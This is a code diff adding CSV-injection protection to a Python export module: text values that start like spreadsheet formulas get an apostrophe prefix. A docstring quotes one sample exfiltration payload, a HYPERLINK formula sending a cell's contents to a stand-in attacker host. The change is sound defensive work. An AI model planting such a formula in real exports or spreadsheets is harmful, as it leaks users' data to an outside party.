@@ -5,6 +5,11 @@ same way from SQLite and PostgreSQL: ISO dates, UTC timestamps ``2026-03-31T14:0
 dashed UUIDs, decimals without trailing zeros, ``true``/``false``, "" for NULL. The rows'
 values are then joined with commas; Python's ``csv`` writer writes only the rows that need
 quoting, so the bytes are the ones it would write.
+
+Text never leaves as a live spreadsheet formula: a text value starting with ``=``, ``+``,
+``-``, ``@``, a tab or a carriage return is written with a ``'`` in front (:func:`safe_text`,
+OWASP's rule against CSV injection), in every CSV and XLSX export. Numbers are not text: a
+negative quantity or coordinate stays a number.
 """
 
 from __future__ import annotations
@@ -15,6 +20,25 @@ from typing import Any
 
 _EMPTY = {None: ""}.get  # _EMPTY(v, v): "" for NULL, else the value itself
 _BOOL = {"": "", 0: "false", 1: "true"}.__getitem__  # SQLite gives 0/1, PostgreSQL False/True
+
+
+#: What a spreadsheet reads as the start of a formula (OWASP, "CSV injection").
+FORMULA_STARTS = frozenset("=+-@\t\r")
+
+
+def safe_text(text: str) -> str:
+    """``text`` as a spreadsheet shows it and never runs it: a ``'`` in front when it starts
+    like a formula. A family name typed on any tablet, or pushed by any node, reaches the
+    coordinators' spreadsheets: ``=HYPERLINK("http://evil.example/?"&A2)`` must stay words.
+
+    This is the one implementation of the rule; every export writes text through it.
+    """
+    return "'" + text if text[:1] in FORMULA_STARTS else text
+
+
+def _safe_texts(texts: list[str]) -> list[str]:
+    """:func:`safe_text` of a column's values, at the cost of a slice and a set lookup each."""
+    return ["'" + t if t[:1] in FORMULA_STARTS else t for t in texts]
 
 
 def _uuid_text(value: Any) -> str:
@@ -57,13 +81,14 @@ CSV_TEXT: dict[str, Callable[[Any], str]] = {
 
 def _column_text(kind: str, values: Sequence[Any]) -> list[str]:
     """The CSV text of a column's raw values, "" for NULL, through C functions where one will
-    do (the text, integer and boolean columns)."""
+    do (the text, integer and boolean columns); text made safe (:func:`safe_text`)."""
     if kind == "bool":
         return list(map(_BOOL, map(_EMPTY, values, values)))
     if kind in CSV_TEXT:
         write = CSV_TEXT[kind]
         return ["" if v is None else write(v) for v in values]
-    return list(map(str, map(_EMPTY, values, values)))
+    texts = list(map(str, map(_EMPTY, values, values)))
+    return _safe_texts(texts) if kind == "text" else texts
 
 
 def rows_text(kinds: Sequence[str], rows: Sequence[Sequence[Any]]) -> list[tuple[str, ...]]:
